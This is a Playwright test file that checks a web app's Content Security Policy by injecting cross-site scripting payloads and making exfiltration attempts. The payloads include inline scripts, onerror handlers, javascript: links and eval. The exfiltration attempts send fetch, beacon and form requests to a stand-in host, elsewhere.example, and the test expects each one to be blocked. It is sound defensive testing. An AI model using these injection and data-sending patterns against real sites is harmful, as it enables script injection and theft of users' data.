import { type Page } from '@playwright/test';
import { expect, test } from '../fixtures';
import { groups, people, pick, posts } from '../helpers/company';
import { serveChanged } from '../helpers/data';
import { hashesOfScripts, hashesOfStyles, policyOf, servePage } from '../helpers/policy';
import { pages, somebody } from '../helpers/routes';
import { becomePerson, heading, openAt } from '../helpers/visit';

test.skip(({ isMobile }) => isMobile, 'the same on every device');

/** Set by the scripts that somebody slips in here, where they run. */
declare global {
  interface Window {
    intruder?: string;
  }
}

const intruder = (page: Page): Promise<string | undefined> => page.evaluate(() => window.intruder);

/** The directives of the policy by which something was stopped in a page from now on. */
function violationsOf(page: Page): string[] {
  const directives: string[] = [];
  page.on('console', (message) => {
    const directive = /^content security policy: (\S+)/.exec(message.text())?.[1];
    if (directive) directives.push(directive);
  });
  return directives;
}

test('the page has the policy, before anything that it holds for', async ({ request }) => {
  const page = await (await request.get('./')).text();
  const hashes = hashesOfScripts(page);
  expect(hashes.length, 'the script that starts the app').toBe(1);
  const styles = hashesOfStyles(page);
  expect(styles.length, 'the styles of the first page').toBe(1);
  expect(policyOf(page)).toEqual({
    'default-src': ["'none'"],
    'script-src': ["'self'", "'wasm-unsafe-eval'", ...hashes],
    'style-src': ["'self'", ...styles],
    'img-src': ["'self'", 'data:', 'blob:'],
    'font-src': ["'self'"],
    'connect-src': ["'self'"],
    'manifest-src': ["'self'"],
    'worker-src': ["'self'"],
    'frame-src': ["'self'"],
    'form-action': ["'self'"],
    'base-uri': ["'none'"],
  });
  expect(page.search(/<(script|link|style|base)\b/)).toBeGreaterThan(page.indexOf('Content-Security-Policy'));
});

for (const who of ['a guest', 'somebody'] as const) {
  test(`no page needs what the policy forbids, for ${who}`, async ({ page }) => {
    test.setTimeout(120_000);
    const violations = violationsOf(page);
    if (who === 'somebody') await becomePerson(page, somebody.name);
    for (const [name, address] of Object.entries(pages)) {
      await openAt(page, address);
      expect(violations, name).toEqual([]);
    }
  });
}

test.describe('what somebody slipped in', () => {
  test.beforeEach(({ watch }) => watch.allow(/content security policy/i));

  test('into the page as a script does not run', async ({ page, context, request }) => {
    const text = await (await request.get('./')).text();
    const script = "<script>window.intruder = 'a script'</script>";
    await servePage(context, text.replace('</title>', `</title>${script}`).replace('</body>', `${script}</body>`));
    const violations = violationsOf(page);
    await openAt(page, '#/groups');
    expect(await intruder(page)).toBeUndefined();
    expect(violations).toEqual(['script-src-elem', 'script-src-elem']);
  });

  test('in the place of the script that starts the app does not run either', async ({ page, context, request }) => {
    const text = await (await request.get('./')).text();
    await servePage(context, text.replace(/<script([^>]*)>/, "<script$1>window.intruder = 'the loader';"));
    await page.goto('./');
    await expect(page.getByRole('heading', { name: 'Opening Footbridge' })).toBeVisible();
    expect(await intruder(page)).toBeUndefined();
  });

  test('into the page as a base or a style changes nothing', async ({ page, context, request }) => {
    const text = await (await request.get('./')).text();
    const inserted = '</title><base href="https://elsewhere.example/"><style>main { display: none }</style>';
    await servePage(context, text.replace('</title>', inserted));
    const violations = violationsOf(page);
    await openAt(page, '#/groups');
    await expect(heading(page)).toBeVisible();
    expect([...new Set(violations)].sort()).toEqual(['base-uri', 'style-src-elem']);
  });

  test('into the document does not run', async ({ page }) => {
    await openAt(page, '#/groups');
    const violations = violationsOf(page);
    await page.evaluate(() => {
      const script = document.createElement('script');
      script.textContent = "window.intruder = 'an element'";
      document.body.append(script);
      const holder = document.createElement('div');
      holder.innerHTML = '<img src="data:," alt="" onerror="window.intruder = \'a handler\'"><p style="color: red">A</p>';
      document.body.append(holder);
      const link = document.createElement('a');
      link.href = "javascript:void (window.intruder = 'a link')";
      document.body.append(link);
      link.click();
    });
    await expect.poll(() => [...violations].sort()).toEqual(['script-src-attr', 'script-src-elem', 'script-src-elem', 'style-src-attr']);
    expect(await intruder(page)).toBeUndefined();
  });

  test('as a text cannot be made a program', async ({ page }) => {
    await openAt(page, '#/groups');
    const violations = violationsOf(page);
    const thrown = await page.evaluate(
      () =>
        // From a timer it runs as the page's own code does, and not with the rights of a test.
        new Promise<string[]>((done) => {
          setTimeout(() => {
            const names = [() => new Function('return 1'), () => (0, eval)('1')].map((make) => {
              try {
                make();
                return 'nothing';
              } catch (error) {
                return (error as Error).name;
              }
            });
            setTimeout("window.intruder = 'a timer'");
            setTimeout(() => done(names), 100);
          });
        }),
    );
    expect(thrown).toEqual(['EvalError', 'EvalError']);
    expect(await intruder(page)).toBeUndefined();
    expect(violations.length).toBeGreaterThanOrEqual(3);
  });

  test('sends nothing elsewhere and loads nothing from there', async ({ page, watch }) => {
    watch.allow(/elsewhere\.example/);
    await openAt(page, '#/groups');
    const answered: string[] = [];
    await page.route('https://elsewhere.example/**', (route) => {
      answered.push(route.request().url());
      return route.fulfill({ status: 200, body: '' });
    });
    const violations = violationsOf(page);
    const outcome = await page.evaluate(async () => {
      const fetched = await fetch('https://elsewhere.example/take', { method: 'POST', body: 'names', mode: 'no-cors' }).then(
        () => 'sent',
        (error: Error) => error.name,
      );
      navigator.sendBeacon('https://elsewhere.example/beacon', 'names');
      for (const [name, attribute] of [['img', 'src'], ['script', 'src'], ['iframe', 'src']] as const) {
        const element = document.createElement(name);
        element.setAttribute(attribute, `https://elsewhere.example/${name}`);
        document.body.append(element);
      }
      const form = document.createElement('form');
      form.action = 'https://elsewhere.example/form';
      form.target = '_blank';
      document.body.append(form);
      form.submit();
      return fetched;
    });
    expect(outcome).toBe('TypeError');
    const directives = ['connect-src', 'connect-src', 'form-action', 'frame-src', 'img-src', 'script-src-elem'];
    await expect.poll(() => [...violations].sort()).toEqual(directives);
    expect(answered).toEqual([]);
  });
});

test('texts of the data that look like a program stay texts', async ({ page, context }) => {
  const markup = '<img src=x onerror="window.intruder=1"><script>window.intruder=2</script>';
  const person = pick(people, 'colleague', () => true);
  const group = pick(groups, 'group', ({ status }) => status === 'active');
  const post = pick(posts, 'open post', ({ status }) => status === 'open');
  await serveChanged(context, 'people.json', (file) => {
    const mine = pick(file.people, person.id, ({ id }) => id === person.id);
    Object.assign(mine, { name: markup, title: markup, about: markup, accomplishments: [{ text: markup, link: 'javascript:window.intruder=3' }] });
  });
  await serveChanged(context, 'groups.json', (file) => {
    const changed = pick(file.groups, group.id, ({ id }) => id === group.id);
    Object.assign(changed, { name: markup, purpose: markup, channel: { label: markup, url: 'javascript:window.intruder=4' } });
  });
  await serveChanged(context, 'posts.json', (file) => {
    const changed = pick(file.posts, post.id, ({ id }) => id === post.id);
    Object.assign(changed, { title: markup, body: `${markup}\n\n[a](javascript:window.intruder=5) **${markup}**` });
  });
  const violations = violationsOf(page);
  for (const address of [`#/people/${person.id}`, `#/groups/${group.id}`, `#/board/${post.id}`]) {
    await openAt(page, address);
    await expect(heading(page)).toContainText(markup);
    await expect(page.getByRole('main').locator('img[src="x"], script')).toHaveCount(0);
    await expect(page.locator('a[href^="javascript:" i]')).toHaveCount(0);
  }
  for (const list of ['people', 'groups', 'board', 'search']) {
    await openAt(page, `#/${list}?q=onerror`);
    await expect(page.getByText(/window\.intruder=/).first(), list).toBeVisible();
  }
  await openAt(page, '#/problems');
  expect(await intruder(page)).toBeUndefined();
  expect(violations).toEqual([]);
});
